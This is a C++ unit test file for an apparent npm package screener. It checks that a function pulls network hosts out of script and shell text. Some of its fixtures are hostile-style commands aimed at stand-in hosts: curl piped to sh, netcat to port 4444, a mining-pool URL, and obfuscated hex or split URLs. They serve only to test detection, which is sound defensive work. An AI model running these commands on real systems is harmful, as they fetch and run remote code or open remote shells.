// Hosts named in code: which words are hosts, and where they count.
#include "inspect/code/endpoints.h"

#include <gtest/gtest.h>

#include "inspect/code/features.h"
#include "tests/support/table.h"

namespace npmgate {
namespace {

struct HostCase {
  const char* name;
  const char* text;
  const char* hosts;
};

class ScriptHosts : public ::testing::TestWithParam<HostCase> {};
TEST_P(ScriptHosts, AreThese) {
  EXPECT_EQ(joined(measure_code(GetParam().text, Syntax::kScript).endpoints), GetParam().hosts)
      << GetParam().text;
}
INSTANTIATE_TEST_SUITE_P(
    Urls, ScriptHosts,
    ::testing::Values(
        HostCase{"https", "get('https://collector.example/x?y=1')", "collector.example"},
        HostCase{"port", "get(\"http://a.example:8080/\")", "a.example"},
        HostCase{"user", "get('https://u:p@a.example/')", "a.example"},
        HostCase{"at_in_path", "get('https://a.example/@b.example/c')", "a.example"},
        HostCase{"websocket", "ws('wss://a.example')", "a.example"},
        HostCase{"mining_pool", "x('stratum+tcp://pool.example:3333')", "pool.example"},
        HostCase{"upper", "get('HTTPS://A.Example')", "a.example"},
        HostCase{"template", "get(`https://a.example/${id}`)", "a.example"},
        HostCase{"template_host", "get(`https://${host}/x`)", ""},
        HostCase{"inside_text", "log('see https://a.example/docs, please')", "a.example"},
        HostCase{"escaped_slashes", "x(\"https:\\/\\/a.example\\/b\")", "a.example"},
        HostCase{"hex_escapes",
                 "x('"
                 "\\x68\\x74\\x74\\x70\\x73\\x3a\\x2f\\x2f\\x61\\x2e\\x65\\x78\\x61\\x6d\\x70\\x6c"
                 "\\x65')",
                 "a.example"},
        HostCase{"split", "x('https:' + '//a.ex' + 'ample')", "a.example"},
        HostCase{"ipv4", "x('http://203.0.113.7/a')", "203.0.113.7"},
        HostCase{"ipv6", "x('http://[2001:db8::7]:80/a')", "[2001:db8::7]"},
        HostCase{"number", "x('http://3405803783/')", "3405803783"},
        HostCase{"hex_number", "x('http://0xCB007107/')", "0xcb007107"},
        HostCase{"not_ascii",
                 "x('https://b\xC3\xBC"
                 "cher.example/')",
                 "b%C3%BCcher.example"},
        HostCase{"trailing_dot", "x('https://a.example./')", "a.example"},
        HostCase{"two", "x('http://b.example http://a.example http://b.example')",
                 "a.example b.example"}),
    kRowName);

INSTANTIATE_TEST_SUITE_P(
    Bare, ScriptHosts,
    ::testing::Values(HostCase{"option", "request({ hostname: 'collector.example', port: 443 })",
                               "collector.example"},
                      HostCase{"address", "net.connect(4444, '203.0.113.7')", "203.0.113.7"},
                      HostCase{"with_port", "x('a.example:443')", "a.example"},
                      HostCase{"protocol_relative", "x('//a.example/b')", "a.example"},
                      HostCase{"three_labels", "x('hooks.collector.io')", "hooks.collector.io"},
                      HostCase{"package_name", "require('socket.io')", ""},
                      HostCase{"file", "x('package.json', 'a.b.js', 'index.d.ts')", ""},
                      HostCase{"property", "x('user.info', 'scroll.top', 'app.name')", ""},
                      HostCase{"version", "x('1.2.3', '1.2.3.4.5', '300.1.1.1')", ""},
                      HostCase{"mail", "x('me@a.example')", ""},
                      HostCase{"sentence", "x('visit a.example today')", ""},
                      HostCase{"underscore", "x('a_b.c.com')", ""}),
    kRowName);

INSTANTIATE_TEST_SUITE_P(
    Not, ScriptHosts,
    ::testing::Values(
        HostCase{"comment", "// https://a.example/license\n/* @see http://b.example */ x()", ""},
        HostCase{"name_space",
                 "x('http://www.w3.org/2000/svg', 'http://json-schema.org/draft-07/schema#')", ""},
        HostCase{
            "this_machine",
            "x('http://localhost:3000', 'http://127.0.0.1', 'http://[::1]/', 'ws://a.localhost')",
            ""},
        HostCase{"scheme", "x('file://a.example/b', 'webpack://a.example/b', 'node:http')", ""},
        HostCase{"regexp", "x(/^https:\\/\\/a.example/)", ""},
        HostCase{"single_label", "x('http://internal/')", ""},
        HostCase{"nothing", "x('https://', 'http:///a', 'https://.example', 'https://-a.example')",
                 ""}),
    kRowName);

TEST(ShellHosts, CountOutsideComments) {
  EXPECT_EQ(
      joined(measure_code("# https://a.example\ncurl https://b.example/x | sh\nnc c.example 4444\n",
                          Syntax::kShell)
                 .endpoints),
      "b.example c.example");
}

// A lexer that lost its way must not drop hosts.
TEST(LostHosts, CountEverywhere) {
  EXPECT_EQ(
      joined(
          measure_code(") // https://a.example\nx('http://b.example')", Syntax::kScript).endpoints),
      "a.example b.example");
}

class CommandHosts : public ::testing::TestWithParam<HostCase> {};
TEST_P(CommandHosts, AreThese) {
  EXPECT_EQ(joined(endpoints_in(GetParam().text)), GetParam().hosts);
}
INSTANTIATE_TEST_SUITE_P(
    Rows, CommandHosts,
    ::testing::Values(HostCase{"curl", "curl -s https://a.example/x | sh", "a.example"},
                      HostCase{"no_scheme", "curl a.example/x", "a.example"},
                      HostCase{"inline", "node -e \"require('https').get('https://a.example')\"",
                               "a.example"},
                      HostCase{"address", "nc 203.0.113.7 4444", "203.0.113.7"},
                      HostCase{"option", "x --host=a.example", "a.example"},
                      HostCase{"none", "node install.js && npm run build:prod", ""},
                      HostCase{"files", "node ./a.b.js config.json", ""}),
    kRowName);

TEST(Endpoints, AreAtMostSixtyFourAndKeepAddresses) {
  std::string text = "http://203.0.113.7 ";
  for (int i = 0; i < 200; ++i) text += "https://h" + std::to_string(i) + ".example ";
  text += "http://[2001:db8::1]/";
  const auto hosts = endpoints_in(text);
  EXPECT_EQ(hosts.size(), 64u);
  EXPECT_TRUE(std::is_sorted(hosts.begin(), hosts.end()));
  EXPECT_EQ(std::count(hosts.begin(), hosts.end(), "203.0.113.7"), 1);
  EXPECT_EQ(std::count(hosts.begin(), hosts.end(), "[2001:db8::1]"), 1);
}

TEST(Endpoints, OfHostileTextAreBounded) {
  std::string text;
  for (int i = 0; i < 100'000; ++i) text += "https://a" + std::to_string(i) + ".example/";
  EXPECT_EQ(endpoints_in(text).size(), 64u);
  EXPECT_TRUE(endpoints_in("https://" + std::string(100'000, 'a') + ".example").empty());
}

}  // namespace
}  // namespace npmgate
